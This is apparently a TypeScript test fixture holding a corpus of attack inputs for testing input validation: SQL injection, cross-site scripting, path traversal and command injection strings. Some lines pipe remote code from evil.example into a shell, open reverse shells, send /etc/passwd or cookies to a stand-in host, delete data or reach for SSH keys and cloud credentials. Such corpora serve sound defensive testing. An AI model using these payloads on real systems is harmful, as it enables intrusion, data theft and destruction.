/** Written for this test: what attackers send, one a line, by what it is. */
const lines = (text: string): readonly string[] =>
  text
    .trim()
    .split('\n')
    .map(line => line.trim())

export const attackCorpus = {
  sql: lines(`
    ' OR '1'='1
    ' OR 1=1--
    ' or 1=1#
    ' or 1=1/*
    ') or ('1'='1
    ') or '1'='1'--
    admin'--
    admin' #
    admin'/*
    admin') --
    " or ""="
    " or 1=1 --
    1 or 1=1
    1) or (1=1
    -1 OR 2>1
    1 AND 1=2
    1' AND '1'='2
    1' and sleep(5)--
    1; WAITFOR DELAY '0:0:5'--
    1) WAITFOR DELAY '0:0:5'--
    '; DROP TABLE users; --
    x'; drop table members; --
    1; DELETE FROM accounts
    1;UPDATE users SET role='admin' WHERE id=1
    ';INSERT INTO users VALUES(1,'x')--
    1; EXEC xp_cmdshell('dir')
    '; exec master..xp_cmdshell 'ping 10.0.0.1'--
    1 UNION SELECT NULL,NULL--
    ' UNION SELECT username, password FROM users--
    1 union all select 1,2,3,4
    ' UNION/**/SELECT/**/password/**/FROM/**/users#
    %27%20UNION%20SELECT%201%2C2%2C3--%20
    ' UnIoN SeLeCt @@version,2 #
    1 /*!50000UNION*/ /*!50000SELECT*/ 1,2
    ' AND (SELECT COUNT(*) FROM information_schema.tables)>0--
    1 AND (SELECT SUBSTRING(password,1,1) FROM users LIMIT 1)='a'
    ' and extractvalue(1,concat(0x7e,version()))--
    1 and updatexml(1,concat(0x7e,user()),1)
    '||(SELECT password FROM users WHERE id=1)||'
    '+(select top 1 name from sysobjects)+'
    1 order by 10--
    ' order by 5#
    ' group by users.id having 1=1--
    ' HAVING 1=1--
    ' or true--
    ' or 'x' like 'x
    ' or username like '%admin%
    ' or not 1=2 --
    ' xor 1=1 --
    '||1=1--
    ' && 1=1#
    1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)
    ' into outfile '/var/www/shell.php'--
    1 and benchmark(5000000,md5(1))
    1;select pg_sleep(10)--
    ' or exists(select 1 from users)--
    ' or (select 1)=1--
    '='
    %2527%2520or%25201%253D1--
    1' or 1 -- -
    0x50 or 1=1
    ' or 1=1 limit 1 -- -+
    1 or '1'='1'
    x' AND 1=(SELECT COUNT(*) FROM tabname); --
    1 AND ASCII(LOWER(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1)))>116
    ' and 1 in (select min(name) from sysobjects)--
    1;declare @s varchar(200);exec(@s)
    ' union select load_file('/etc/passwd'),2#
    ' or username is not null or 'a'='b
    5 and 1 between 1 and 2
  `),
  script: lines(String.raw`
    <script>alert(1)</script>
    <SCRIPT SRC=//evil.example/x.js></SCRIPT>
    <scr<script>ipt>alert(1)</script>
    <img src=x onerror=alert(1)>
    <img src="x" onerror="alert(1)">
    <IMG """><SCRIPT>alert("XSS")</SCRIPT>">
    <svg onload=alert(1)>
    <svg/onload=alert(1)>
    <svg><animate onbegin=alert(1) attributeName=x dur=1s>
    <body onload=alert(1)>
    <iframe src="javascript:alert(1)"></iframe>
    <iframe srcdoc="<b>x</b>">
    <object data="data:text/html,<b>x</b>"></object>
    <embed src="//evil.example/x.swf">
    <base href="//evil.example/">
    <meta http-equiv="refresh" content="0;url=//evil.example">
    <a href="javascript:alert(1)">x</a>
    <a href="jav&#x09;ascript:alert(1)">x</a>
    <a href="&#106;avascript:alert(1)">x</a>
    javascript:alert(document.domain)
    JaVaScRiPt:prompt(1)
    javascript://%0aalert(1)
    vbscript:msgbox(1)
    data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
    " onmouseover="alert(1)
    ' onfocus='alert(1)' autofocus='
    "><img src=x onerror=alert(1)>
    "/><svg/onload=prompt(1)>
    '-alert(1)-'
    ';alert(1)//
    ";alert(1)//
    </script><script>alert(1)</script>
    %3Cscript%3Ealert(1)%3C%2Fscript%3E
    %253Cscript%253Ealert(1)%253C%252Fscript%253E
    &lt;script&gt;alert(1)&lt;/script&gt;
    \u003cscript\u003ealert(1)\u003c/script\u003e
    <details open ontoggle=alert(1)>
    <video><source onerror=alert(1)>
    <input autofocus onfocus=alert(1)>
    <select onfocus=alert(1) autofocus>
    <marquee onstart=alert(1)>
    <x onclick=alert(1)>click
    <math><mtext></mtext><script>alert(1)</script></math>
    <link rel=stylesheet href=//evil.example/x.css>
    <div style="width: expression(alert(1))">
    {{constructor.constructor('alert(1)')()}}
    <img src=1 href=1 onerror="javascript:alert(1)"></img>
    <audio src=x onerror=confirm(1)>
    <form><button formaction=javascript:alert(1)>x
    <x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
    <img/src=x/onerror=alert(1)>
    "});alert(1);//
    new Image().src='//evil.example/?c='+document.cookie
    <a onpointerrawupdate=alert(1)>x
    <input type=image src=x onerror=import('//evil.example')>
  `),
  traversal: lines(String.raw`
    ../../../../etc/passwd
    ..\..\..\windows\win.ini
    ..%2f..%2f..%2fetc%2fpasswd
    %2e%2e%2f%2e%2e%2fetc/passwd
    %252e%252e%252f%252e%252e%252fboot.ini
    ....//....//....//etc/passwd
    ..;/..;/manager/html
    /etc/passwd
    /etc/shadow%00.png
    file:///etc/passwd
    php://filter/convert.base64-encode/resource=index.php
    /proc/self/environ
    images/../../../../etc/hosts
    ..%5c..%5cwindows%5csystem32%5ccmd.exe
    C:\windows\system32\drivers\etc\hosts
    ../.git/config
    /var/www/../../etc/passwd
    ../../../../../../../../root/.ssh/id_rsa
    ./../../WEB-INF/web.xml
    expect://id
    ..\..\..\boot.ini
    .%2e/.%2e/.%2e/etc/passwd
    /../../../../.env
    %2e%2e/%2e%2e/.aws/credentials
    ../../../wp-config.php
    file=../../secret.txt
    ..%u2215..%u2215x/../../etc/passwd
    jar:file:/tmp/x.zip!/a
    /home/app/../../root/.bashrc
    \..\..\..\..\winnt\win.ini
  `),
  command: lines(String.raw`
    ; cat /etc/passwd
    ;id
    | whoami
    || ping -c 10 127.0.0.1
    && curl http://evil.example/x | sh
    & ipconfig /all
    $(whoami)
    $(curl http://evil.example)
    x|id;
    ; sleep 5
    | sleep 5 |
    ;ls -la
    ; rm -rf /
    | nc -e /bin/sh 10.0.0.1 4444
    ;wget${'$'}{IFS}http://evil.example/x
    ;cat$IFS/etc/passwd
    127.0.0.1;uname -a
    127.0.0.1 && nslookup evil.example
    ;c'a't /etc/passwd
    ;w\ho\ami
    ; /bin/bash -i >& /dev/tcp/10.0.0.1/4444
    | powershell -enc SQBFAFgA
    ; python -c 'import os'
    %3Bcat%20%2Fetc%2Fpasswd
    $(sleep 10)
    file.txt;curl -d @/etc/passwd evil.example
    <(curl evil.example)
    ;echo $PATH
    | dir c:\
    ; perl -e 'print 1'
  `),
} as const
